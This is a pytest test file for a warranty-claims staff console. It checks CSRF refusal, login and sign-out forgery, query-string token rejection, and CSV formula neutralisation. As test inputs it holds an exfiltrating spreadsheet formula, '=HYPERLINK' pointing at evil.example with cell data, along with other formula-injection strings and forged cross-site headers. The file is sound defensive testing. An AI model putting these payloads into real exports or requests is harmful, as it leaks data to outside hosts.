"""The staff console against forged requests and hostile data, over real HTTP: a form posted from
another origin (another port of the same host) or without the session's CSRF token moves nothing;
the console's own forms still work; CSV exports neutralise spreadsheet formulas; a token in a
query string signs nobody in."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from wty_helpers import add_user, buyer_claim, make_cert, sell

from inspector.auth.csrf import CSRF_FIELD, CSRF_HEADER
from inspector.auth.tenancy import EVERYTHING
from inspector.config import Settings
from inspector.db import make_engine, migrate, session_scope
from inspector.web.app import create_app
from warranty.service import get_claim

ORIGIN = "http://testserver"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def world(tmp_path: Path) -> Iterator[dict[str, Any]]:
    url = f"sqlite:///{tmp_path / 'w.db'}"
    migrate(url)
    engine = make_engine(url)
    tokens = {
        "staff": add_user(engine, "sam", "staff", "warehouse-pass"),
        "supervisor": add_user(engine, "sue", "supervisor", "supervisor-pass"),
    }
    app = create_app(Settings(data_dir=tmp_path, database_url=url), engine=engine)
    with TestClient(app, base_url=ORIGIN) as client:
        yield {"engine": engine, "client": client, "tokens": tokens}
    engine.dispose()


def _sign_in(c: TestClient, user: str, password: str) -> None:
    r = c.post("/auth/login", data={"username": user, "password": password}, follow_redirects=False)
    assert r.status_code == 303, r.text


def _page_token(html: str) -> str:
    m = re.search(rf'name="{CSRF_FIELD}" value="([0-9a-f]+)"', html)
    assert m, "the page's form carries no CSRF token"
    return m.group(1)


def _state(engine: Engine, ref: str) -> str:
    with session_scope(engine) as s:
        return get_claim(s, ref, EVERYTHING).state


def _open_claim(engine: Engine) -> str:
    cert = make_cert()
    sell(engine, cert)
    return buyer_claim(engine, cert.human_id)[0]


def test_claim_form_posted_from_another_port_of_the_same_host_is_refused(world: dict[str, Any]) -> None:
    """The reported attack: a page on another port (same site, so the Lax cookie is sent) posts
    the staff 'accept' form. Refused with 403 even with a valid token; the claim does not move."""
    c, engine = world["client"], world["engine"]
    ref = _open_claim(engine)
    _sign_in(c, "sam", "warehouse-pass")
    token = _page_token(c.get(f"/staff/claims/{ref}").text)
    for headers in (
        {"Origin": "http://testserver:8081", "Sec-Fetch-Site": "same-site"},
        {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "null"},
    ):
        r = c.post(
            f"/staff/claims/{ref}/act",
            data={"action": "accept", CSRF_FIELD: token},
            headers=headers,
            follow_redirects=False,
        )
        assert r.status_code == 403, headers
        assert "another site" in r.json()["detail"]
        assert _state(engine, ref) == "submitted"


def test_claim_form_without_the_session_token_is_refused(world: dict[str, Any]) -> None:
    """With the session cookie but no token (or another session's token) nothing moves (403)."""
    c, engine = world["client"], world["engine"]
    ref = _open_claim(engine)
    _sign_in(c, "sam", "warehouse-pass")
    for extra in ({}, {CSRF_FIELD: "0" * 64}, {CSRF_FIELD: ""}):
        r = c.post(f"/staff/claims/{ref}/act", data={"action": "accept", **extra}, follow_redirects=False)
        assert r.status_code == 403
        assert "reload the page" in r.json()["detail"]
    assert _state(engine, ref) == "submitted"


def test_console_own_forms_and_fetch_calls_still_work(world: dict[str, Any]) -> None:
    """The token the page renders, sent from the same origin (as a browser does), is accepted:
    as a multipart form field and as the X-CSRF-Token header of a JSON call."""
    c, engine = world["client"], world["engine"]
    ref = _open_claim(engine)
    _sign_in(c, "sam", "warehouse-pass")
    token = _page_token(c.get(f"/staff/claims/{ref}").text)
    same_origin = {"Origin": ORIGIN, "Sec-Fetch-Site": "same-origin"}
    r = c.post(
        f"/staff/claims/{ref}/act",
        data={"action": "accept", CSRF_FIELD: token},
        files={"photos": ("", b"", "application/octet-stream")},
        headers=same_origin,
        follow_redirects=False,
    )
    assert r.status_code == 303 and _state(engine, ref) == "awaiting_item"
    r = c.post(
        f"/api/warranty/claims/{ref}/transitions",
        json={"action": "receive", "identity_value": "356938035643809"},
        headers={**same_origin, CSRF_HEADER: token},
    )
    assert r.status_code == 200 and r.json()["state"] == "received"


def test_bearer_token_api_calls_need_no_csrf_token(world: dict[str, Any]) -> None:
    """Scripts and stations authenticate with a header no other site can set: no token needed."""
    c, engine = world["client"], world["engine"]
    ref = _open_claim(engine)
    r = c.post(
        f"/api/warranty/claims/{ref}/transitions",
        json={"action": "accept"},
        headers={"Authorization": f"Bearer {world['tokens']['staff']}"},
    )
    assert r.status_code == 200 and r.json()["state"] == "awaiting_item"


def test_sign_in_form_posted_from_another_site_is_refused(world: dict[str, Any]) -> None:
    """Login CSRF (signing the victim into the attacker's account) is refused too."""
    c = world["client"]
    r = c.post(
        "/auth/login",
        data={"username": "sam", "password": "warehouse-pass"},
        headers={"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
        follow_redirects=False,
    )
    assert r.status_code == 403 and "inspector_session" not in r.headers.get("set-cookie", "")


def test_sign_out_needs_the_session_token(world: dict[str, Any]) -> None:
    """A forged sign-out does nothing; the page's own sign-out button works."""
    c = world["client"]
    _sign_in(c, "sam", "warehouse-pass")
    assert c.post("/auth/logout", follow_redirects=False).status_code == 403
    assert c.get("/staff/claims", follow_redirects=False).status_code == 200
    token = _page_token(c.get("/staff/claims").text)
    assert c.post("/auth/logout", data={CSRF_FIELD: token}, follow_redirects=False).status_code == 303
    c.cookies.clear()


def test_csv_export_neutralises_spreadsheet_formulas(world: dict[str, Any]) -> None:
    """An order reference or station id that starts with = + - @ tab or CR is exported with a
    leading quote, so a spreadsheet shows it as text instead of running it."""
    c, engine = world["client"], world["engine"]
    hostile = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for value in hostile:
        cert = make_cert(station=value)
        sell(engine, cert, order_ref=value)
        buyer_claim(engine, cert.human_id, order_ref=value)
    h = {"Authorization": f"Bearer {world['tokens']['supervisor']}"}
    rows = list(csv.DictReader(io.StringIO(c.get("/staff/reports/claims.csv", headers=h).text)))
    # The claim form strips surrounding white space from order references; station ids are kept.
    assert sorted(r["order_ref"] for r in rows) == [*sorted("'" + v for v in hostile[:4]), "x", "x"]
    assert sorted(r["station_id"] for r in rows) == sorted("'" + v for v in hostile)
    rates = list(csv.DictReader(io.StringIO(c.get("/staff/reports/rates.csv", headers=h).text)))
    stations = {r["value"] for r in rates if r["dimension"] == "station_id"}
    assert stations == {"'" + v for v in hostile}
    for row in rows + rates:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r" or cell[:1].isdigit()


def test_query_string_token_signs_nobody_in(world: dict[str, Any]) -> None:
    """``?token=`` on the CSV export (or any page or API) is ignored: sign in, or send the header."""
    c = world["client"]
    token = world["tokens"]["supervisor"]
    r = c.get(f"/staff/reports/claims.csv?token={token}", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/auth/login")
    assert c.get(f"/api/warranty/claims?token={token}").status_code == 401
    assert c.get("/staff/reports/claims.csv", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    page = c.get("/staff/reports", headers={"Authorization": f"Bearer {token}"}).text
    assert "token=" not in page
